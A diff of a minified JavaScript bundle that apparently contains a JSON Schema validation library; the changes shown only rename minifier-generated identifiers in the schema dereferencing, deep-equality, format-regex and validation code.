 Ln(t,e,n))}}else if(t!==!0&&t!==!1)return e;const r=n.href+(s?"#"+s:"");if(e[r]!==void 0&&e[r]!==t)throw new Error(`Dupl\
 icate schema URI "${r}".`);if(e[r]=t,t===!0||t===!1)return e;if(t.__absolute_uri__===void 0&&Object.defineProperty(t,"__\
-absolute_uri__",{enumerable:!1,value:r}),t.$ref&&t.__absolute_ref__===void 0){const i=zr(t.$ref,n);Object.defineProperty(
-t,"__absolute_ref__",{enumerable:!1,value:i.href})}if(t.$recursiveRef&&t.__absolute_recursive_ref__===void 0){const i=zr(
-t.$recursiveRef,n);Object.defineProperty(t,"__absolute_recursive_ref__",{enumerable:!1,value:i.href})}if(t.$anchor){const i=zr(
-"#"+t.$anchor,n);e[i.href]=t}for(let i in t){if(Sv[i])continue;const o=`${s}/${zt(i)}`,a=t[i];if(Array.isArray(a)){if(Ov[i]){
-const c=a.length;for(let l=0;l<c;l++)Ln(a[l],e,n,`${o}/${l}`)}}else if(Av[i])for(let c in a)Ln(a[c],e,n,`${o}/${zt(c)}`);else
-Ln(a,e,n,o)}return e}function Us(t,e){const n=typeof t;if(n!==typeof e)return!1;const s=Array.isArray(t),r=Array.isArray(
-e);if(s!==r)return!1;if(s){const i=t.length;if(i!==e.length)return!1;for(let o=0;o<i;o++)if(!Us(t[o],e[o]))return!1;return!0}
+absolute_uri__",{enumerable:!1,value:r}),t.$ref&&t.__absolute_ref__===void 0){const i=Gr(t.$ref,n);Object.defineProperty(
+t,"__absolute_ref__",{enumerable:!1,value:i.href})}if(t.$recursiveRef&&t.__absolute_recursive_ref__===void 0){const i=Gr(
+t.$recursiveRef,n);Object.defineProperty(t,"__absolute_recursive_ref__",{enumerable:!1,value:i.href})}if(t.$anchor){const i=Gr(
+"#"+t.$anchor,n);e[i.href]=t}for(let i in t){if(Ov[i])continue;const o=`${s}/${zt(i)}`,a=t[i];if(Array.isArray(a)){if(Dv[i]){
+const c=a.length;for(let l=0;l<c;l++)Ln(a[l],e,n,`${o}/${l}`)}}else if(xv[i])for(let c in a)Ln(a[c],e,n,`${o}/${zt(c)}`);else
+Ln(a,e,n,o)}return e}function zs(t,e){const n=typeof t;if(n!==typeof e)return!1;const s=Array.isArray(t),r=Array.isArray(
+e);if(s!==r)return!1;if(s){const i=t.length;if(i!==e.length)return!1;for(let o=0;o<i;o++)if(!zs(t[o],e[o]))return!1;return!0}
 if(n==="object"){if(!t||!e)return t===e;const i=Object.keys(t),o=Object.keys(e);if(i.length!==o.length)return!1;for(const c of i)
-if(!Object.prototype.hasOwnProperty.call(e,c)||!Us(t[c],e[c]))return!1;return!0}return t===e}const Iv=/^(\d\d\d\d)-(\d\d)-(\d\d)$/,
-$v=[0,31,28,31,30,31,30,31,31,30,31,30,31],Rv=/^(\d\d):(\d\d):(\d\d)(\.\d+)?(z|([+-])(\d\d):(\d\d))?$/i,mB=/^(?=.{1,253}$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[-0-9a-z]{0,61}[0-9a-z])?)*$/i,
-Nv=/^(?:[a-z][a-z0-9+\-.]*:)?(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'"()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?(?:\?(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i,
-Fv=/^(?:(?:[^\x00-\x20\x7f"<>%\\^`{|}]|%[0-9a-f]{2})|\{[+#./;?&=,!@|]?(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?(?:,(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?)*\})*$/i,
-Lv=/^(?:(?:https?|ftp):\/\/)(?:\S+(?::\S*)?@)?(?:(?!10(?:\.\d{1,3}){3})(?!127(?:\.\d{1,3}){3})(?!169\.254(?:\.\d{1,3}){2})(?!192\.168(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)(?:\.(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)*(?:\.(?:[a-z\u{00a1}-\u{ffff}]{2,})))(?::\d{2,5})?(?:\/[^\s]*)?$/iu,
-Pv=/^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i,jv=/^(?:\/(?:[^~/]|~0|~1)*)*$/,Mv=/^#(?:\/(?:[a-z0-9_\-.!$&'()*+,;:=@]|%[0-9a-f]{2}|~0|~1)*)*$/i,
-Gv=/^(?:0|[1-9][0-9]*)(?:#|(?:\/(?:[^~/]|~0|~1)*)*)$/,Hv=/^("(?:[\x20-\x21\x23-\x5b\x5d-\x7e]|\\[\x20-\x7e])*"|[a-z0-9.!#$%&'*+/=?^_`{|}~-]+)@(.+)$/i,
-zv=t=>{const e=t.match(Hv);if(!e)return!1;const n=e[1],s=e[2];if(!n||!s||n.length>64||s.length>253||n[0]!=='"'&&(n[0]===
+if(!Object.prototype.hasOwnProperty.call(e,c)||!zs(t[c],e[c]))return!1;return!0}return t===e}const Sv=/^(\d\d\d\d)-(\d\d)-(\d\d)$/,
+Tv=[0,31,28,31,30,31,30,31,31,30,31,30,31],Iv=/^(\d\d):(\d\d):(\d\d)(\.\d+)?(z|([+-])(\d\d):(\d\d))?$/i,pB=/^(?=.{1,253}$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[-0-9a-z]{0,61}[0-9a-z])?)*$/i,
+$v=/^(?:[a-z][a-z0-9+\-.]*:)?(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'"()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?(?:\?(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i,
+Nv=/^(?:(?:[^\x00-\x20\x7f"<>%\\^`{|}]|%[0-9a-f]{2})|\{[+#./;?&=,!@|]?(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?(?:,(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?)*\})*$/i,
+Rv=/^(?:(?:https?|ftp):\/\/)(?:\S+(?::\S*)?@)?(?:(?!10(?:\.\d{1,3}){3})(?!127(?:\.\d{1,3}){3})(?!169\.254(?:\.\d{1,3}){2})(?!192\.168(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)(?:\.(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)*(?:\.(?:[a-z\u{00a1}-\u{ffff}]{2,})))(?::\d{2,5})?(?:\/[^\s]*)?$/iu,
+Fv=/^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i,Lv=/^(?:\/(?:[^~/]|~0|~1)*)*$/,Pv=/^#(?:\/(?:[a-z0-9_\-.!$&'()*+,;:=@]|%[0-9a-f]{2}|~0|~1)*)*$/i,
+jv=/^(?:0|[1-9][0-9]*)(?:#|(?:\/(?:[^~/]|~0|~1)*)*)$/,Mv=/^("(?:[\x20-\x21\x23-\x5b\x5d-\x7e]|\\[\x20-\x7e])*"|[a-z0-9.!#$%&'*+/=?^_`{|}~-]+)@(.+)$/i,
+Gv=t=>{const e=t.match(Mv);if(!e)return!1;const n=e[1],s=e[2];if(!n||!s||n.length>64||s.length>253||n[0]!=='"'&&(n[0]===
 "."||n.endsWith(".")||n.includes("..")))return!1;if(s.startsWith("[")&&s.endsWith("]")){const r=s.slice(1,-1);return/^ipv6:/i.
-test(r)?CB.test(r.slice(5)):gB.test(r)}return mB.test(s)},gB=/^(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)$/,
-CB=/^((([0-9a-f]{1,4}:){7}([0-9a-f]{1,4}|:))|(([0-9a-f]{1,4}:){6}(:[0-9a-f]{1,4}|((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){5}(((:[0-9a-f]{1,4}){1,2})|:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){4}(((:[0-9a-f]{1,4}){1,3})|((:[0-9a-f]{1,4})?:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){3}(((:[0-9a-f]{1,4}){1,4})|((:[0-9a-f]{1,4}){0,2}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){2}(((:[0-9a-f]{1,4}){1,5})|((:[0-9a-f]{1,4}){0,3}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){1}(((:[0-9a-f]{1,4}){1,6})|((:[0-9a-f]{1,4}){0,4}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(:(((:[0-9a-f]{1,4}){1,7})|((:[0-9a-f]{1,4}){0,5}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:)))$/i,
-Uv=t=>/^P(?:\d+W|(?:(?:\d+Y(?:\d+M(?:\d+D)?)?|\d+M(?:\d+D)?|\d+D)(?:T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S))?|T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S)))$/.
-test(t);function Xt(t){return t.test.bind(t)}const yB={date:wB,time:bB.bind(void 0,!0),"date-time":Kv,duration:Uv,uri:Vv,
-"uri-reference":Xt(Nv),"uri-template":Xt(Fv),url:Xt(Lv),email:zv,hostname:Xt(mB),ipv4:Xt(gB),ipv6:Xt(CB),regex:Xv,uuid:Xt(
-Pv),"json-pointer":Xt(jv),"json-pointer-uri-fragment":Xt(Mv),"relative-json-pointer":Xt(Gv)};function Jv(t){return t%4===
-0&&(t%100!==0||t%400===0)}function wB(t){const e=t.match(Iv);if(!e)return!1;const n=e[1],s=e[2],r=e[3];if(!n||!s||!r)return!1;
-const i=+n,o=+s,a=+r,c=o==2&&Jv(i)?29:$v[o];return o>=1&&o<=12&&a>=1&&c!==void 0&&a<=c}function bB(t,e){const n=e.match(
-Rv);if(!n)return!1;const s=n[1],r=n[2],i=n[3];if(!s||!r||!i)return!1;const o=+s,a=+r,c=+i,l=n[5],u=n[6],d=+(n[7]??0),B=+(n[8]??
+test(r)?gB.test(r.slice(5)):mB.test(r)}return pB.test(s)},mB=/^(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)$/,
+gB=/^((([0-9a-f]{1,4}:){7}([0-9a-f]{1,4}|:))|(([0-9a-f]{1,4}:){6}(:[0-9a-f]{1,4}|((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){5}(((:[0-9a-f]{1,4}){1,2})|:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){4}(((:[0-9a-f]{1,4}){1,3})|((:[0-9a-f]{1,4})?:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){3}(((:[0-9a-f]{1,4}){1,4})|((:[0-9a-f]{1,4}){0,2}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){2}(((:[0-9a-f]{1,4}){1,5})|((:[0-9a-f]{1,4}){0,3}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){1}(((:[0-9a-f]{1,4}){1,6})|((:[0-9a-f]{1,4}){0,4}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(:(((:[0-9a-f]{1,4}){1,7})|((:[0-9a-f]{1,4}){0,5}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:)))$/i,
+Hv=t=>/^P(?:\d+W|(?:(?:\d+Y(?:\d+M(?:\d+D)?)?|\d+M(?:\d+D)?|\d+D)(?:T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S))?|T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S)))$/.
+test(t);function Xt(t){return t.test.bind(t)}const CB={date:yB,time:wB.bind(void 0,!0),"date-time":Jv,duration:Hv,uri:Wv,
+"uri-reference":Xt($v),"uri-template":Xt(Nv),url:Xt(Rv),email:Gv,hostname:Xt(pB),ipv4:Xt(mB),ipv6:Xt(gB),regex:Vv,uuid:Xt(
+Fv),"json-pointer":Xt(Lv),"json-pointer-uri-fragment":Xt(Pv),"relative-json-pointer":Xt(jv)};function zv(t){return t%4===
+0&&(t%100!==0||t%400===0)}function yB(t){const e=t.match(Sv);if(!e)return!1;const n=e[1],s=e[2],r=e[3];if(!n||!s||!r)return!1;
+const i=+n,o=+s,a=+r,c=o==2&&zv(i)?29:Tv[o];return o>=1&&o<=12&&a>=1&&c!==void 0&&a<=c}function wB(t,e){const n=e.match(
+Iv);if(!n)return!1;const s=n[1],r=n[2],i=n[3];if(!s||!r||!i)return!1;const o=+s,a=+r,c=+i,l=n[5],u=n[6],d=+(n[7]??0),B=+(n[8]??
 0);if(o>23||a>59||c>60||d>23||B>59||t&&l===void 0)return!1;if(c<60)return!0;const f=u==="+"?1:u==="-"?-1:0;return(o*60+a-
-f*(d*60+B)+1440)%1440===1439}const Zv=/t|\s/i;function Kv(t){const[e,n,s]=t.split(Zv);return e!==void 0&&n!==void 0&&s===
-void 0&&wB(e)&&bB(!0,n)}const Wv=/\/|:/,qv=/^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)(?:\?(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i;
-function Vv(t){return Wv.test(t)&&qv.test(t)}const Yv=/[^\\]\\Z/;function Xv(t){if(Yv.test(t))return!1;try{return new RegExp(
-t,"u"),!0}catch{return!1}}function Qv(t){let e=0,n=t.length,s=0,r;for(;s<n;)e++,r=t.charCodeAt(s++),r>=55296&&r<=56319&&
+f*(d*60+B)+1440)%1440===1439}const Uv=/t|\s/i;function Jv(t){const[e,n,s]=t.split(Uv);return e!==void 0&&n!==void 0&&s===
+void 0&&yB(e)&&wB(!0,n)}const Zv=/\/|:/,Kv=/^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)(?:\?(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i;
+function Wv(t){return Zv.test(t)&&Kv.test(t)}const qv=/[^\\]\\Z/;function Vv(t){if(qv.test(t))return!1;try{return new RegExp(
+t,"u"),!0}catch{return!1}}function Yv(t){let e=0,n=t.length,s=0,r;for(;s<n;)e++,r=t.charCodeAt(s++),r>=55296&&r<=56319&&
 s<n&&(r=t.charCodeAt(s),(r&64512)==56320&&s++);return e}function Pn(t,e){return Object.prototype.hasOwnProperty.call(t,e)}
-function _B(t){const e=Math.abs(t).toString().split("e"),n=e[0],s=e[1]??"0",r=n.indexOf("."),i=r===-1?0:n.length-r-1;return[
-BigInt(n.replace(".","")),Number(s)-i]}function eD(t,e){if(!Number.isFinite(t)||!Number.isFinite(e)||e<=0)return!1;const[
-n,s]=_B(t),[r,i]=_B(e),o=s-i;return o>=0?n*10n**BigInt(o)%r===0n:n%(r*10n**BigInt(-o))===0n}function st(t,e,n="2019-09",s=Ln(
+function bB(t){const e=Math.abs(t).toString().split("e"),n=e[0],s=e[1]??"0",r=n.indexOf("."),i=r===-1?0:n.length-r-1;return[
+BigInt(n.replace(".","")),Number(s)-i]}function Xv(t,e){if(!Number.isFinite(t)||!Number.isFinite(e)||e<=0)return!1;const[
+n,s]=bB(t),[r,i]=bB(e),o=s-i;return o>=0?n*10n**BigInt(o)%r===0n:n%(r*10n**BigInt(-o))===0n}function st(t,e,n="2019-09",s=Ln(
 e),r=!0,i=null,o="#",a="#",c=Object.create(null)){if(e===!0)return{valid:!0,errors:[]};if(e===!1)return{valid:!1,errors:[
 {instanceLocation:o,keyword:"false",keywordLocation:o,error:"False boolean schema."}]};const l=typeof t;let u;switch(l){case"\
 boolean":case"number":case"string":u=l;break;case"object":t===null?u="null":Array.isArray(t)?u="array":u="object";break;default:
@@ -3017,7 +3017,7 @@ throw new Error(`Instances of "${l}" type are not supported.`)}const{$ref:d,$rec
 enum:g,required:C,not:y,anyOf:b,allOf:D,oneOf:O,if:v,then:I,else:_,format:$,properties:S,patternProperties:P,additionalProperties:z,
 unevaluatedProperties:Z,minProperties:le,maxProperties:de,propertyNames:G,dependentRequired:ue,dependentSchemas:ve,dependencies:Fe,
 prefixItems:ne,items:Pe,additionalItems:He,unevaluatedItems:_e,contains:De,minContains:W,maxContains:H,minItems:Y,maxItems:pe,
-uniqueItems:Ce,minimum:U,maximum:ie,exclusiveMinimum:R,exclusiveMaximum:Ae,multipleOf:Le,minLength:je,maxLength:j,pattern:M,
+uniqueItems:Ce,minimum:U,maximum:ie,exclusiveMinimum:N,exclusiveMaximum:Ae,multipleOf:Le,minLength:je,maxLength:j,pattern:M,
 __absolute_ref__:it,__absolute_recursive_ref__:$e}=e,K=[];if(f===!0&&i===null&&(i=e),B==="#"){const ce=i===null?s[$e]:i,
 oe=`${a}/$recursiveRef`,we=st(t,i===null?e:i,n,s,r,ce,o,oe,c);we.valid||K.push({instanceLocation:o,keyword:"$recursiveRe\
 f",keywordLocation:oe,error:"A subschema had errors."},...we.errors)}if(d!==void 0){const oe=s[it||d];if(oe===void 0){let Q=`\
@@ -3031,9 +3031,9 @@ if(Array.isArray(h)){let ce=h.length,oe=!1;for(let we=0;we<ce;we++)if(u===h[we]|
 " is invalid. Expected "${h.join('", "')}".`})}else h==="integer"?(u!=="number"||t%1||t!==t)&&K.push({instanceLocation:o,
 keyword:"type",keywordLocation:`${a}/type`,error:`Instance type "${u}" is invalid. Expected "${h}".`}):h!==void 0&&u!==h&&
 K.push({instanceLocation:o,keyword:"type",keywordLocation:`${a}/type`,error:`Instance type "${u}" is invalid. Expected "${h}\
-".`});if(m!==void 0&&(u==="object"||u==="array"?Us(t,m)||K.push({instanceLocation:o,keyword:"const",keywordLocation:`${a}\
+".`});if(m!==void 0&&(u==="object"||u==="array"?zs(t,m)||K.push({instanceLocation:o,keyword:"const",keywordLocation:`${a}\
 /const`,error:`Instance does not match ${JSON.stringify(m)}.`}):t!==m&&K.push({instanceLocation:o,keyword:"const",keywordLocation:`${a}\
-/const`,error:`Instance does not match ${JSON.stringify(m)}.`})),g!==void 0&&(u==="object"||u==="array"?g.some(ce=>Us(t,
+/const`,error:`Instance does not match ${JSON.stringify(m)}.`})),g!==void 0&&(u==="object"||u==="array"?g.some(ce=>zs(t,
 ce))||K.push({instanceLocation:o,keyword:"enum",keywordLocation:`${a}/enum`,error:`Instance does not match any of ${JSON.
 stringify(g)}.`}):g.some(ce=>t===ce)||K.push({instanceLocation:o,keyword:"enum",keywordLocation:`${a}/enum`,error:`Insta\
 nce does not match any of ${JSON.stringify(g)}.`})),y!==void 0){const ce=`${a}/not`;st(t,y,n,s,r,i,o,ce).valid&&K.push({
@@ -3102,25 +3102,25 @@ s`,error:`Array may contain at most ${H} items matching schema. ${q} items were 
 /unevaluatedItems`;for(oe;oe<ce;oe++){if(c[oe])continue;const Q=st(t[oe],_e,n,s,r,i,`${o}/${oe}`,re);c[oe]=!0,Q.valid||K.
 push({instanceLocation:o,keyword:"unevaluatedItems",keywordLocation:re,error:"Items did not match unevaluated items sche\
 ma."},...Q.errors)}}if(Ce)for(let re=0;re<ce;re++){const Q=t[re],q=typeof Q=="object"&&Q!==null;for(let he=0;he<ce;he++){
-if(re===he)continue;const ot=t[he];(Q===ot||q&&(typeof ot=="object"&&ot!==null)&&Us(Q,ot))&&(K.push({instanceLocation:o,
